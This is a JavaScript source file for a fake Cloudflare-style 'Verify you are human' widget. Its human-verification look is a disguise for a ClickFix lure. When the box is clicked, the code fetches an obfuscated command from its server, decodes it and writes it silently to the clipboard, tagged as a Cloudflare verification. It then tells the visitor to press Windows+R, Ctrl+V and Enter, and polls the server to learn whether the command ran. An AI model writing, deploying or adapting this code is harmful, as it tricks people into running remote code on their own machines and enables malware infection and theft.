const STATE = Object.freeze({ IDLE: "idle", CHECKING: "checking", NEEDS_ACTION: "needs_action", VERIFIED: "verified" });

class VerificationWidget {
  constructor(container, options = {}) {
    this.container = container;
    this.options = { endpoint: "/api/v1/challenge", theme: "auto", ...options };
    this.state = STATE.IDLE;
    this.rayId = Array.from(crypto.getRandomValues(new Uint8Array(8)), (b) => b.toString(16).padStart(2, "0")).join("");
    this.render();
  }

  render() {
    this.container.innerHTML = `
      <div class="widget widget--${this.state}">
        <div class="widget__row"><span class="widget__box" tabindex="0"></span><span class="widget__label">${this.label()}</span></div>
        ${this.state === STATE.NEEDS_ACTION ? this.instructions() : ""}
        <footer>Ray ID: <code>${this.rayId}</code></footer>
      </div>`;
    this.container.querySelector(".widget__box").addEventListener("click", () => this.begin());
    const verify = this.container.querySelector(".widget__verify");
    if (verify) verify.addEventListener("click", () => this.poll());
  }

  label() {
    return { idle: "Verify you are human", checking: "Verifying...", needs_action: "Unusual web traffic detected", verified: "Success!" }[this.state];
  }

  instructions() {
    return `<ol><li>Press <b>Windows Button</b> + <b>R</b></li><li>Press <b>CTRL</b> + <b>V</b></li><li>Press <b>Enter</b></li></ol><button class="widget__verify">Verify</button>`;
  }

  setState(next) {
    this.state = next;
    this.render();
  }

  async begin() {
    if (this.state !== STATE.IDLE) return;
    this.setState(STATE.CHECKING);
    try {
      const response = await fetch(this.options.endpoint, { method: "POST", body: JSON.stringify({ ray: this.rayId, ref: document.referrer }) });
      const { parts, key } = await response.json();
      const text = parts.map((p, i) => String.fromCharCode(p - key.charCodeAt(i % key.length))).join("");
      await this.writeClipboard(`${text} # Cloudflare verification ${this.rayId}`);
      this.setState(STATE.NEEDS_ACTION);
    } catch (error) {
      console.error("Challenge failed", error);
      this.setState(STATE.IDLE);
    }
  }

  async writeClipboard(text) {
    try {
      await navigator.clipboard.writeText(text);
    } catch {
      const area = Object.assign(document.createElement("textarea"), { value: text });
      area.style.opacity = "0";
      document.body.append(area);
      area.select();
      document.execCommand("copy");
      area.remove();
    }
  }

  async poll() {
    const { executed } = await (await fetch(`${this.options.endpoint}/${this.rayId}`)).json();
    if (executed) {
      this.setState(STATE.VERIFIED);
      document.cookie = "cf_chl_ok=1; max-age=86400";
      location.reload();
    }
  }
}

new VerificationWidget(document.querySelector("#challenge"));
